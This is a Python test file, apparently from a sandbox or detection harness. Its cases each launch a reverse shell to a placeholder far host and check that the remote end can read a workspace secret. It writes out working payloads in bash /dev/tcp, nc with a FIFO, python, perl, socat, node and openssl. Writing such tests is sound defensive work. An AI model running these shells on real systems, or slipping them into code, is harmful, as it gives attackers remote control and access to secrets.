# SPDX-License-Identifier: Apache-2.0
"""Reverse shells: each connects to the far end, where someone types commands and reads a secret of the workspace."""

import lib_far as far
import lib_net as net
from lib_case import case


def shell(c, command, port=4444, tls=None, **how):
    word = far.secret(c)
    drive = far.shell_listener(c, port, tls, **how)
    c.call("ls")
    c.attack(command % {"far": c.far, "port": port} + " & " + c.until_done())
    c.begin()
    c.prove(word in drive(), "the far end ran `cat notes.txt` and read the secret")


def script(c, name, text, port=4444):
    c.file(name, text % {"far": c.far, "port": port})


@case("reverse_shell", seconds=5, quick=True)
def shell_bash(c):
    """bash -i with its streams redirected to /dev/tcp"""
    c.tool("bash")
    shell(c, "./worker -c './worker -i >& /dev/tcp/%(far)s/%(port)d 0>&1'")


@case("reverse_shell", seconds=5)
def shell_bash_loop(c):
    """a loop that reads commands from descriptor 5 and answers there"""
    script(c, "setup.sh", "exec 5<>/dev/tcp/%(far)s/%(port)d\nwhile read -r line <&5; do eval \"$line\" >&5 2>&1; done\n")
    shell(c, "bash setup.sh")


@case("reverse_shell", seconds=5, quick=True)
def shell_nc(c):
    """nc and a shell around a FIFO"""
    c.tool("nc")
    c.tool("sh", "build")
    shell(c, "mkfifo pipe; ./worker %(far)s %(port)d <pipe | ./build >pipe 2>&1", port=443)


@case("reverse_shell", seconds=5)
def shell_python(c):
    """python: dup2 over the three streams"""
    script(c, "setup.py", """\
import os, socket, subprocess
s = socket.create_connection(("%(far)s", %(port)d))
for i in 0, 1, 2:
    os.dup2(s.fileno(), i)
subprocess.call(["/bin/sh", "-i"])
""")
    shell(c, "python3 setup.py")


@case("reverse_shell", seconds=7, quick=True)
def shell_pty(c):
    """python: pty.spawn, so that the shell sees a terminal alone; typed key by key"""
    script(c, "setup.py", """\
import os, pty, socket
s = socket.create_connection(("%(far)s", %(port)d))
for i in 0, 1, 2:
    os.dup2(s.fileno(), i)
pty.spawn("/bin/bash")
""")
    shell(c, "python3 setup.py", slow=True, commands=("pwd", "cat notes.txt"))


@case("reverse_shell", seconds=5)
def shell_perl(c):
    """perl: the streams opened anew on a socket"""
    script(c, "setup.pl", """\
use Socket;
socket(S, PF_INET, SOCK_STREAM, 0);
connect(S, sockaddr_in(%(port)d, inet_aton("%(far)s")));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
""")
    shell(c, "perl setup.pl")


@case("reverse_shell", seconds=5)
def shell_socat(c):
    """socat: a shell on a terminal of its own"""
    c.tool("socat")
    shell(c, "./worker TCP:%(far)s:%(port)d EXEC:'bash -li',pty,stderr,setsid,sigint,sane", port=80)


@case("reverse_shell", seconds=5)
def shell_node(c):
    """node: a child's pipes joined to a socket"""
    script(c, "setup.js", """\
const net = require("net"), shell = require("child_process").spawn("/bin/sh", ["-i"]);
const s = net.connect(%(port)d, "%(far)s", () => { s.pipe(shell.stdin); shell.stdout.pipe(s); shell.stderr.pipe(s); });
""")
    shell(c, "node setup.js")


@case("reverse_shell", seconds=6)
def shell_openssl(c):
    """openssl s_client and a FIFO: encrypted"""
    c.tool("openssl")
    shell(c, "mkfifo pipe; sh -i <pipe 2>&1 | ./worker s_client -quiet -connect %(far)s:%(port)d >pipe", port=443, tls=net.tls())
